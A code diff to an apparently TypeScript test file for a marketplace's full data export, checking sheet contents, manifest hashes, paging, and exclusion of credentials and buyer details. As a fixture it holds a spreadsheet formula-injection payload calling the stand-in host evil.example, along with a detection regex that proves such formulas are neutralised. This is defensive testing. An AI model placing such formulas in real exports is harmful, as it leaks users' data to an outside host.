@@ -1,11 +1,13 @@
 import { accountId, type Account } from '$lib/domain/accounts/account';
+import { formatPhone } from '$lib/domain/ordering/phone';
 import { unzipSync } from 'fflate';
+import { createHash } from 'node:crypto';
+import readXlsxFile from 'read-excel-file/node';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 import { Stall } from '../../tests/fixtures/stall';
 import { listChanges } from '../audit/list-changes';
 import type { Context } from '../context';
-import { readXlsx } from '../spreadsheet/read-xlsx';
 import { answerExport } from './answer-export';
 
 const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Bấm")';
@@ -14,8 +16,7 @@ const PERIOD = 'from=2026-11-20&until=2026-11-20';
 let stall: Stall;
 beforeAll(async () => {
 	stall = await Stall.open(3);
-	const buyer = stall.payload('').buyer;
-	await stall.place(await stall.order({ buyer: { ...buyer, name: FORMULA }, note: '@SUM(A1)' }));
+	await stall.place(await stall.order({ note: 'GHI-CHU-CUA-NGUOI-MUA' }));
 	await stall.place(
 		await stall.order({ producerId: stall.neighbour, lines: [stall.line(stall.tea)] }),
 	);
@@ -53,6 +54,10 @@ function ask(account: Account | null, what: string, search = ''): Promise<Respon
 	} as Context;
 	const language = 'vi';
 	return answerExport(context, { what, search: new URLSearchParams(search), language });
+}
+
+function sha256OfBytes(bytes: Uint8Array): string {
+	return createHash('sha256').update(bytes).digest('hex');
 }
 
 async function bytesOf(response: Response): Promise<Buffer> {
@@ -137,31 +142,99 @@ describe('a download', () => {
 });
 
 describe('everything', () => {
-	it('is a workbook of six sheets, and every text in it is a text', async () => {
-		const administrator = person(['administrator']);
-		const sheets = await readXlsx(
-			await bytesOf(await ask(administrator, 'everything', 'format=xlsx')),
-		);
-		expect(sheets.map(({ name, rows }) => [name, rows.length - 1])).toEqual([
-			['Chủ thể', 2],
-			['Sản phẩm', 4],
-			['Chứng nhận', 1],
-			['Lô hàng', 0],
-			['Đơn hàng', 2],
-			['Dòng đơn hàng', 2],
-		]);
-		const orders = sheets.find(({ name }) => name === 'Đơn hàng')?.rows.flat() ?? [];
-		expect(orders).toContain(FORMULA);
-		expect(orders).toContain('0912 345 678');
+	const administrator = person(['administrator']);
+	type Listed = { table: string; file: string; rows: number; bytes: number; sha256: string };
+
+	async function archive() {
+		const files = unzipSync(await bytesOf(await ask(administrator, 'everything', 'format=zip')));
+		const list = JSON.parse(Buffer.from(files['manifest.json'] ?? []).toString()) as {
+			madeAt: string;
+			files: Listed[];
+			stayed: { table: string; why: string }[];
+		};
+		return { files, list };
+	}
+
+	beforeAll(async () => {
+		await stall.db.sql`update producers set about = ${FORMULA} where id = ${stall.producer}`;
+		await stall.db.sql`update products set story = '@SUM(A1)' where id = ${stall.honey}`;
 	});
 
-	it('is an archive of CSVs in which no buyer can leave a formula', async () => {
-		const administrator = person(['administrator']);
-		const files = unzipSync(await bytesOf(await ask(administrator, 'everything', 'format=zip')));
-		const orders = Buffer.from(files['Đơn hàng.csv'] ?? []).toString();
-		expect(orders).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,'`.slice(0, 20));
-		expect(orders).toContain("'@SUM(A1)");
-		expect(orders).not.toMatch(/(?:^|[;,\t"])[=@]/m);
+	it('is a workbook of all tables, and every text in it is a text', async () => {
+		const workbook = await bytesOf(await ask(administrator, 'everything', 'format=xlsx'));
+		const sheets = await readXlsxFile(workbook);
+		const { list } = await archive();
+		expect(sheets).toHaveLength(list.files.length);
+		const rowsOf = (name: string) => sheets.find(({ sheet }) => sheet === name)?.data ?? [];
+		expect(rowsOf('Chủ thể').flat()).toContain(FORMULA);
+		expect(rowsOf('Sản phẩm')).toHaveLength(5);
+		expect(rowsOf('Đơn hàng')).toHaveLength(3);
+	});
+
+	it('is an archive of CSVs in which nobody can leave a formula', async () => {
+		const { files } = await archive();
+		for (const [name, bytes] of Object.entries(files)) {
+			if (!name.endsWith('.csv')) continue;
+			expect(Buffer.from(bytes).toString(), name).not.toMatch(/(?:^|[;,\t"])[=@+-](?!\d)/m);
+		}
+		const producers = Buffer.from(files['Chủ thể.csv'] ?? []).toString();
+		expect(producers).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,`);
+		expect(Buffer.from(files['Sản phẩm.csv'] ?? []).toString()).toContain("'@SUM(A1)");
+	});
+
+	it('says of each file how many rows it has and by what one knows it', async () => {
+		const { files, list } = await archive();
+		expect(list.madeAt).toBe(new Date(stall.now).toISOString());
+		for (const { file, bytes, sha256 } of list.files) {
+			const content = files[file] ?? new Uint8Array();
+			expect([content.length, sha256OfBytes(content)], file).toEqual([bytes, sha256]);
+		}
+		expect(Object.keys(files)).toHaveLength(list.files.length + 1);
+		for (const { table, rows } of list.files) {
+			const [found] = await stall.db.sql<{ count: number }[]>`
+				select count(*)::int as count from ${stall.db.sql(table)}`;
+			expect(rows, table).toBe(found?.count);
+		}
+		expect(list.stayed.map(({ table }) => table)).toContain('credentials');
+	});
+
+	it('has every row of a table that is longer than a page, once', async () => {
+		await stall.db.sql`
+			insert into lots (product_id, producer_id, lot)
+			select ${stall.honey}, ${stall.producer}, 'L' || n from generate_series(1, 4001) n`;
+		await stall.db.sql`
+			insert into serial_flags (gtin, lot, serial, reason, since)
+			select '09521234543213', 'L' || n % 7, 'S' || n, 'recalled', now()
+			from generate_series(1, 4001) n`;
+		const { files } = await archive();
+		for (const name of ['Lô hàng.csv', 'Tem bị cảnh báo.csv']) {
+			const lines = Buffer.from(files[name] ?? [])
+				.toString()
+				.trimEnd()
+				.split('\r\n')
+				.slice(1);
+			expect([lines.length, new Set(lines).size], name).toEqual([4001, 4001]);
+		}
+		await stall.db.sql`delete from lots`;
+		await stall.db.sql`delete from serial_flags`;
+	});
+
+	it('holds nothing by which a buyer is known', async () => {
+		const { name, phone, address } = stall.payload('').buyer;
+		const { files } = await archive();
+		const words = Object.values(files).map((bytes) => Buffer.from(bytes).toString());
+		for (const known of [
+			name,
+			phone,
+			formatPhone(phone),
+			address.street,
+			'GHI-CHU-CUA-NGUOI-MUA',
+		]) {
+			expect(
+				words.filter((text) => text.includes(known)),
+				known,
+			).toEqual([]);
+		}
 	});
 
 	it('is written down before it leaves', async () => {
